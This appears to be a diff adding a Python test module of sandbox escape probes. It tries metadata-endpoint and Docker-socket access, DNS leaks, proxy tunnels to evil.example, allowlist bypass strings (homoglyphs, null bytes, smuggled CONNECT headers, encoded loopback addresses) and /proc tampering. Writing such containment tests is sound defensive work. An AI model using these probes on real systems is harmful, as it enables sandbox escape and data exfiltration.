@@ -1,0 +1,271 @@
+"""Attempts on the network: to reach anything but the hosts on the list."""
+
+import os
+import socket
+import urllib.parse
+
+
+def connect(family, address, kind=socket.SOCK_STREAM):
+    with socket.socket(family, kind) as connection:
+        connection.settimeout(3)
+        connection.connect(address)
+    return f"connected to {address!r}"
+
+
+def tcp_to_host(bait):
+    """services that listen on the machine's loopback, such as Temporal or a database"""
+    return connect(socket.AF_INET, ("127.0.0.1", bait["tcp_port"]))
+
+
+def tcp_to_the_world(bait):
+    """any server, to hand over what was found"""
+    for address in ("1.1.1.1", "93.184.216.34"):
+        try:
+            return connect(socket.AF_INET, (address, 443))
+        except OSError:
+            continue
+    return None
+
+
+def tcp_over_ipv6(bait):
+    """the same over IPv6"""
+    return connect(socket.AF_INET6, ("::1", bait["tcp_port"]))
+
+
+def metadata(bait):
+    """the cloud machine's credentials"""
+    return connect(socket.AF_INET, ("169.254.169.254", 80))
+
+
+def udp_to_host(bait):
+    """a name server or log daemon of the machine"""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
+        datagrams.sendto(b"hello", ("127.0.0.1", bait["udp_port"]))  # the host listens
+    return None
+
+
+def look_up_names(bait):
+    """a way out through DNS, a label at a time"""
+    answers = socket.getaddrinfo("secret-goes-here.example.com", 443)
+    return answers or None
+
+
+def ask_name_server(bait):
+    """the same, past the system's resolver"""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
+        datagrams.settimeout(3)
+        query = b"\0\1\1\0\0\1\0\0\0\0\0\0\7example\3com\0\0\1\0\1"
+        datagrams.sendto(query, ("8.8.8.8", 53))
+        return datagrams.recv(512)
+
+
+def raw_socket(bait):
+    """packets with any sender"""
+    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
+    return "made"
+
+
+def packet_socket(bait):
+    """everybody's packets, read off the wire"""
+    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300).close()
+    return "made"
+
+
+def netlink_socket(bait):
+    """the machine's network settings"""
+    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).close()
+    return "made"
+
+
+def other_families(bait):
+    """rarely tested corners of the kernel, and the hypervisor by vsock"""
+    made = []
+    for family in (40, 38, 31, 29, 17, 9, 21, 16):
+        try:
+            socket.socket(family, socket.SOCK_STREAM).close()
+        except OSError:
+            continue
+        made.append(family)
+    return made or None
+
+
+def listen(bait):
+    """a service of its own on the machine's address"""
+    listener = socket.socket()
+    listener.bind(("0.0.0.0", 0))
+    listener.listen()
+    return listener.getsockname()
+
+
+def abstract_socket(bait):
+    """a service of the machine that has no file, such as a session bus"""
+    return connect(socket.AF_UNIX, "\0" + bait["abstract"])
+
+
+def path_socket(bait):
+    """a service of the machine with a socket file, such as Docker"""
+    for path in (bait["socket"], "/run/dbus/system_bus_socket", "/var/run/docker.sock"):
+        try:
+            return connect(socket.AF_UNIX, path)
+        except OSError:
+            continue
+    return None
+
+
+# the following run with a network route, so with a proxy in HTTPS_PROXY
+
+
+def ask(request, rest=b""):
+    """The proxy's status for a raw request, and the proxy's address; with its password if any."""
+    proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
+    with socket.create_connection((proxy.hostname, proxy.port), timeout=10) as connection:
+        head = request
+        if proxy.username:
+            import base64
+
+            pair = base64.b64encode(f"{proxy.username}:{proxy.password}".encode())
+            head += b"\r\nProxy-Authorization: Basic " + pair
+        connection.sendall(head + b"\r\n\r\n" + rest)
+        answer = connection.recv(4096)
+    return int(answer.split()[1]) if answer else None
+
+
+def tunnel(target):
+    if not isinstance(target, bytes):
+        target = target.encode()
+    status = ask(b"CONNECT " + target + b" HTTP/1.1\r\nHost: x")
+    return f"{target!r} answered {status}" if status and status < 300 else None
+
+
+def first(targets):
+    return next((won for target in targets if (won := tunnel(target))), None)
+
+
+def other_host(bait):
+    """a server of its own, through the proxy"""
+    return tunnel("evil.example:443")
+
+
+def look_alike_host(bait):
+    """the same, under a name that looks allowed"""
+    allowed = bait["allowed"]
+    return first(
+        f"{name}:443"
+        for name in (
+            f"{allowed}.evil.example",
+            f"evil-{allowed}",
+            f"evil.{allowed}",
+            allowed.replace(".", "-", 1) + ".example",
+            allowed.replace("a", "\u0430"),
+        )
+    )
+
+
+def trailing_dot(bait):
+    """the same, by a name that compares as another"""
+    return first([f"{bait['allowed']}.:443", f"{bait['allowed']}..:443", f".{bait['allowed']}:443"])
+
+
+def mixed_case(bait):
+    """the same, by a name that compares as another"""
+    return first([f"{bait['allowed'].upper()}:443", f"{bait['allowed'].title()}:443"])
+
+
+def user_information(bait):
+    """the same, with the allowed name in front of an @"""
+    return first([f"{bait['allowed']}@evil.example:443", f"evil.example:443@{bait['allowed']}:443"])
+
+
+def other_port(bait):
+    """mail or ssh on an allowed host"""
+    ports = ("80", "22", "0443", "443.0", "+443", "", "65979", "4430", " 443", "443 ", "-1")
+    return first(f"{bait['allowed']}:{port}" for port in ports)
+
+
+def address_literals(bait):
+    """services of the machine and the local network, by address"""
+    port = bait["tcp_port"]
+    names = ("127.0.0.1", "[::1]", "[::ffff:127.0.0.1]", "2130706433", "0x7f000001", "0177.0.0.1")
+    more = ("169.254.169.254", "10.0.0.1", "localhost", "127.1", "[fe80::1%25lo]", "0", "[::]")
+    return first(f"{name}:{number}" for name in names + more for number in (443, port))
+
+
+def null_byte(bait):
+    """a name that ends early for whoever reads it in C"""
+    allowed = bait["allowed"].encode()
+    return first(
+        [
+            allowed + b"\0.evil.example:443",
+            allowed + b"%00.evil.example:443",
+            allowed + b":443\0",
+            b"\0" + allowed + b":443",
+        ]
+    )
+
+
+def smuggled_header(bait):
+    """a second request inside the first"""
+    allowed = bait["allowed"].encode()
+    return first(
+        [
+            allowed + b":443 HTTP/1.1\r\nHost: evil.example\r\n\r\nCONNECT evil.example:443",
+            allowed + b":443\tevil.example:443",
+            allowed + b":443/../evil.example:443",
+            b"http://" + allowed + b":443",
+        ]
+    )
+
+
+def plain_requests(bait):
+    """a proxy that fetches pages without a tunnel"""
+    for method in (b"GET", b"POST", b"PUT", b"OPTIONS", b"connect"):
+        url = b"http://" + bait["allowed"].encode() + b"/"
+        status = ask(method + b" " + url + b" HTTP/1.1\r\nHost: " + bait["allowed"].encode())
+        if status and status < 300:
+            return method.decode()
+    return None
+
+
+def endless_head(bait):
+    """the proxy's memory, by a request that never ends"""
+    status = ask(b"CONNECT x:443 HTTP/1.1\r\nX: " + b"a" * 100_000)
+    return status if status and status < 300 else None
+
+
+def private_answer(bait):
+    """services of the local network, by an allowed name that points there"""
+    return tunnel(f"{bait['private']}:443")
+
+
+def past_the_proxy(bait):
+    """any server, without the proxy"""
+    for name in ("HTTPS_PROXY", "https_proxy"):
+        os.environ.pop(name)
+    return tcp_to_host(bait) or tcp_to_the_world(bait)
+
+
+def udp_beside_the_proxy(bait):
+    """any server, by UDP, which no proxy sees"""
+    udp_to_host(bait)
+    return ask_name_server(bait)
+
+
+def unix_beside_the_proxy(bait):
+    """a service of the machine, by the family that the forwarder uses"""
+    return connect(socket.AF_UNIX, "/run/egress")
+
+
+def tamper_with_forwarder(bait):
+    """the descriptors of the forwarder, to see what it can reach"""
+    for name in filter(str.isdigit, os.listdir("/proc")):
+        with open(f"/proc/{name}/cmdline", "rb") as file:
+            words = file.read().split(b"\0")
+        if b"sandbox.forward" not in words or b"--args" in words:
+            continue
+        for way in (f"/proc/{name}/mem", f"/proc/{name}/fd/0", f"/proc/{name}/fd/5"):
+            try:
+                os.close(os.open(way, os.O_RDWR))
+            except OSError:
+                continue
+            return way
+    return None
